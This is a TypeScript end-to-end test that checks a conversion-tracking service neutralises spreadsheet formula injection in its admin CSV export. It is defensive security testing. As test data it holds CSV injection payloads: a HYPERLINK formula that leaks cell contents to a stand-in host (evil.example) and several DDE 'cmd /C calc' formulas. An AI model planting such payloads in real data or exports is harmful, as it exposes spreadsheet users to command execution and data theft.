import { randomUUID } from 'node:crypto';
import { ApiClient, conversionBody, makePartner } from './api-client';
import { makeKey, parseCsv } from './admin-helpers';
import { createTestApp, TestApp } from './test-app';

/**
 * A partner (or a Tag visitor) can plant text that a spreadsheet runs as a formula when an operator
 * opens the export. Every text cell starting with = + - @ tab or CR gets a leading ' (OWASP's CSV
 * injection advice); numeric columns stay numbers.
 */
describe('CSV export: spreadsheet formulas are neutralised (e2e)', () => {
  let t: TestApp;
  let api: ApiClient;
  let support: string;

  beforeAll(async () => {
    t = await createTestApp();
    api = new ApiClient(t.app);
    support = (await makeKey(api, 'support')).key;
  });
  afterAll(() => t.close());

  const TEXT_FIELDS = [
    'order_id',
    'event_id',
    'event_type',
    'page_url',
    'referrer',
    'user_agent',
    'session_id',
    'client_id',
  ];

  async function exportRows(partnerId: string): Promise<Record<string, string>[]> {
    const r = await t.app.inject({
      method: 'GET',
      url: `/admin/conversions/export.csv?partner_id=${partnerId}`,
      headers: { authorization: `Bearer ${support}` },
    });
    expect(r.statusCode).toBe(200);
    const [header, ...rows] = parseCsv(r.body);
    return rows.map((row) => Object.fromEntries(header.map((h, i) => [h, row[i]])));
  }

  it.each([
    ['=', '=HYPERLINK("http://evil.example/?x="&A1,"click")'],
    ['+', "+cmd|' /C calc'!A0"],
    ['-', "-2+3+cmd|' /C calc'!A0"],
    ['@', '@SUM(1+1)*cmd|/C calc!A0'],
    ['tab', "\t=cmd|' /C calc'!A0"],
    ['CR', "\r=cmd|' /C calc'!A0"],
  ])('a text cell starting with %s gets a leading quote, in every text column', async (_name, payload) => {
    const p = await makePartner(api);
    const clickId = `${payload.slice(0, 1)}clk_${randomUUID()}`;
    const bidId = `${payload.slice(0, 1)}bid`;
    const click = await api.post('/api/clicks', { tag_id: p.tagId, click_id: clickId, bid_id: bidId }, p.ingestKey);
    expect(click.status).toBe(201);
    const text = Object.fromEntries(TEXT_FIELDS.map((k) => [k, `${payload} ${k}`]));
    const r = await api.post('/api/conversion', conversionBody(clickId, text), p.partnerKey);
    expect(r.body).toMatchObject({ status: 'ok' });
    const [row] = await exportRows(p.partnerId);
    for (const k of TEXT_FIELDS) expect({ [k]: row[k] }).toEqual({ [k]: `'${payload} ${k}` });
    expect([`'${payload} event_id`, `'${payload} order_id`]).toContain(row.dedup_key);
    expect(row.click_id).toBe(`'${clickId}`);
    expect(row.bid_id).toBe(`'${bidId}`);
    expect(row.conversion_value).toBe('99.99');
  });

  it('leaves numbers as numbers (a negative value stays -5) and harmless text as sent (a lone CR or LF quoted)', async () => {
    const p = await makePartner(api);
    const clickId = `clk_${randomUUID()}`;
    expect(
      (await api.post('/api/clicks', { tag_id: p.tagId, click_id: clickId, bid_id: 'b1' }, p.ingestKey)).status,
    ).toBe(201);
    const r = await api.post(
      '/api/conversion',
      conversionBody(clickId, {
        conversion_value: '-5',
        order_id: 'a=b+c-d@e',
        user_agent: ' =not at the start',
        session_id: "'already quoted",
        page_url: 'https://shop.example/a\nb',
        referrer: 'https://shop.example/a\rb',
        formula_in_extra: '=1+1',
      }),
      p.partnerKey,
    );
    expect(r.body).toMatchObject({ status: 'ok' });
    const [row] = await exportRows(p.partnerId);
    expect(row).toMatchObject({
      conversion_value: '-5',
      order_id: 'a=b+c-d@e',
      user_agent: ' =not at the start',
      session_id: "'already quoted",
      page_url: 'https://shop.example/a\nb',
      referrer: 'https://shop.example/a\rb',
      click_id: clickId,
      bid_id: 'b1',
      event_type: 'purchase_completed',
    });
    // params.extra is one JSON object: it starts with {.
    expect(JSON.parse(row.params_extra)).toEqual({ formula_in_extra: '=1+1' });
  });
});
